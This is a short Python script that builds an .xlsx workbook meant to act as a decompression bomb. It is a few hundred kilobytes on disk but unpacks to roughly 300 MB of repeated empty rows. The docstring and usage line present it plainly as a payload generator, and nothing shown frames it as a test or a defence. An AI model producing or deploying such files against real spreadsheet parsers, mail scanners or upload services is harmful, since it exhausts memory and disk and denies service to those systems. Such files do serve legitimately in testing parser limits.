"""A workbook of a few hundred kilobytes that unpacks to hundreds of megabytes.

    python3 bomb.py BOMB.xlsx
"""

import sys
import zipfile

with zipfile.ZipFile(sys.argv[1], "w", zipfile.ZIP_DEFLATED) as book:
    book.writestr("[Content_Types].xml", "<Types/>")
    with book.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part:
        for _ in range(300):
            part.write(b"<row/>" * 174_763)
